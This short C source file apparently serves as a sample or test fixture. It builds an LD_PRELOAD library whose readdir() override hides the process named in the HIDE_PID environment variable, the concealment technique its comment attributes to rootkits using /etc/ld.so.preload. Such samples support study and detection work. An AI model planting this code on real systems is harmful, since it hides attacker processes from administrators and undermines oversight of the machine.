// SPDX-License-Identifier: GPL-2.0-only
/*
 * A library that is loaded before libc and has readdir() leave out the process
 * HIDE_PID: what rootkits put into /etc/ld.so.preload.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

struct dirent *readdir(DIR *dir)
{
	static struct dirent *(*original)(DIR *dir);
	const char *hidden = getenv("HIDE_PID");
	struct dirent *entry;

	if (!original)
		original = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT,
							    "readdir");
	do
		entry = original(dir);
	while (entry && hidden && !strcmp(entry->d_name, hidden));
	return entry;
}
